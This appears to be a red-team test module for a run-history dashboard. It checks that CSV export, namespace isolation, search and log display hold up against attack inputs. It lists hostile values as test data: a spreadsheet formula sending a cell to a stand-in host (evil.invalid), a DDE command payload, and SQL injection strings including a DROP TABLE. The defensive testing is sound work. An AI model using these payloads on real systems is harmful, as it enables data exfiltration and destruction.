"""The history as a way to others' runs, into a reader's spreadsheet, or into the dashboard's memory."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, nullcontext
from pathlib import Path
from tempfile import TemporaryDirectory
from unittest.mock import patch
from urllib.parse import quote

import httpx
from sqlalchemy import true

from boardhand_history import queries, sheet
from boardhand_history.entries import entry_of
from testbed.redteam.attack import Attack, Outcome
from testbed.redteam.dashboard_ground import CANARY, EVE, Off, house
from tests.support.history import Stored, body_of, failed, pull_request, sqlite_url, stored, texts

FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1",
)  # fmt: skip
"""Also in the wide forms that spreadsheets of some countries take for the same."""
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ODD = (
    "' OR 1=1 --", "') OR ('1'='1", "%", "_", "\\", "%%' ESCAPE '", '" OR ""="', "till", "'; DROP TABLE runs; --",
)  # fmt: skip
Attempt = Callable[[Stored, httpx.AsyncClient], Awaitable[Outcome]]


def attacks() -> list[Attack]:
    """Every attack of this theme."""
    return [
        Attack(
            "history-formula-in-a-sheet", "a formula in the spreadsheet of who downloads the history",
            lambda: _tried(_formula), lambda: _tried(_formula, patch.object(sheet, "_FORMULAS", ("\0",))),
            "what a spreadsheet would take for a formula begins with an apostrophe", short=True,
        ),
        Attack(
            "history-of-another-namespace", "another team's runs, by words of the search, cursors and names",
            lambda: _tried(_others), lambda: _tried(_others, patch.object(queries, "_visible", lambda _: true())),
            "every query is of namespaces that the visitor may list runs in",
        ),
        Attack("history-asked-in-sql", "rows or tables, by what the search takes for words", lambda: _tried(_sql)),
        Attack("history-line-of-megabytes", "the dashboard's memory, by a line of a log", lambda: _tried(_long)),
    ]  # fmt: skip


@asynccontextmanager
async def _kept() -> AsyncIterator[tuple[Stored, httpx.AsyncClient]]:
    """A history with a run of ada's namespace and some of eve's, and eve in front of it."""
    with TemporaryDirectory() as folder:
        url = sqlite_url(Path(folder))
        async with stored(url) as made, house(database=url) as here:
            ticket = {"title": CANARY, "key": CANARY[:20]}
            await made.records.put(entry_of(body_of("hers", namespace="shop", ticket=ticket), CANARY), texts(CANARY))
            await made.records.put(entry_of(body_of("mine", namespace="till"), "trello"), texts())
            eve, _ = await here.visitor(EVE)
            try:
                yield made, eve
            finally:
                await here.app.state.history.close()


def _tried(attempt: Attempt, off: Off | None = None) -> Outcome:
    async def inside() -> Outcome:
        async with _kept() as (made, eve):
            with off or nullcontext():
                return await attempt(made, eve)

    return asyncio.run(inside())


async def _formula(made: Stored, eve: httpx.AsyncClient) -> Outcome:
    """In every field that a ticket, a model or a board fills."""
    for number, text in enumerate(FORMULAS):
        ticket = {"title": text, "key": text[:60], "url": text, "id": f"f-{number}"}
        about = failed(reason=text, message=text) | {"branch": text, "pullRequest": pull_request() | {"url": text}}
        body = body_of(f"f-{number}", namespace="till", ticket=ticket, pool=text, specialist=text, **about)
        await made.records.put(entry_of(body, text), texts())
    answer = await eve.get("/ns/till/history.csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > len(FORMULAS) and any("HYPERLINK" in cell for cell in cells), "they are not in the sheet"
    live = {cell for cell in cells if cell.startswith(BEGINS)}
    marked = sum(cell.startswith("'") for cell in cells)
    return Outcome(bool(live), f"of {len(cells)} cells {marked} begin with an apostrophe, {len(live)} as a formula")


async def _others(_: Stored, eve: httpx.AsyncClient) -> Outcome:
    """Of her own namespace, and of ada's."""
    uids = ("uid-shop-hers", "uid-till-mine' OR '1'='1", "%", "uid-shop-hers%00")
    paths = [f"/ns/till/history?q={quote(word)}" for word in (*ODD, CANARY)]
    paths += ["/ns/till/history", "/ns/till/history.csv", "/ns/till/reports", "/ns/till/history?after=99999999999999.z"]
    paths += [f"/ns/till/history/{quote(uid)}" for uid in uids] + ["/ns/till/runs/hers"]
    paths += ["/ns/shop/history", "/ns/shop/history.csv", "/ns/shop/history/uid-shop-hers", "/ns/till,shop/history"]
    paths += ["/ns/till%27%20OR%20%271/history"]
    answers = [await eve.get(path) for path in paths]
    # Her own words stand in the field of the search again.
    shown = [path for path, answer in zip(paths, answers, strict=True) if CANARY in answer.text and CANARY not in path]
    codes = sorted({answer.status_code for answer in answers})
    return Outcome(bool(shown), f"{len(paths)} requests are answered {codes}, none with a run of the other namespace")


async def _sql(made: Stored, eve: httpx.AsyncClient) -> Outcome:
    odd, wild = list[str](), list[str]()
    for word in ODD:
        for name in ("q", "pool"):
            answer = await eve.get(f"/ns/till/history?{name}={quote(word)}")
            odd += [f"{word}: {answer.status_code}"] * (answer.status_code >= 500)
            wild += [word] * ("/ns/till/history/uid-till-mine" in answer.text)
    known = await made.records.known(["uid-shop-hers", "uid-till-mine"])
    reached = bool(odd or wild) or len(known) != 2
    return Outcome(reached, f"{2 * len(ODD)} searches find nothing, as words that no run has; both runs are there")


async def _long(made: Stored, eve: httpx.AsyncClient) -> Outcome:
    """A line without end, a step whose text is one, and lines without number."""
    step = json.dumps({"event": "step", "at": "x", "number": 1, "role": "r", "text": "t" * 3_000_000})
    log = "\n".join(("x" * 6_000_000, step, *["y"] * 300_000))
    await made.records.put(entry_of(body_of("mine", namespace="till", version="6"), "trello"), texts(log))
    answer = await eve.get("/ns/till/history/uid-till-mine", timeout=60)
    size = len(answer.content)
    reached = size > 1_000_000 or answer.status_code != 200
    return Outcome(reached, f"the page has {size:,} bytes, of {len(log):,} of the log")
